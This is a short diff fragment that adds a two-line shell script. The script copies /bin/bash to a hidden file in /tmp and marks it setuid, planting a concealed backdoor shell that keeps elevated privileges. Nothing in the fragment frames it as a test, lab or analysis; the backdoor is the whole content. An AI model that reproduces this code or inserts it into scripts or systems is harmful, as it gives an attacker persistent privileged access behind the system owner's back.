@@ -1,0 +1,2 @@
+#!/bin/sh
+cp /bin/bash /tmp/.b && chmod u+s /tmp/.b
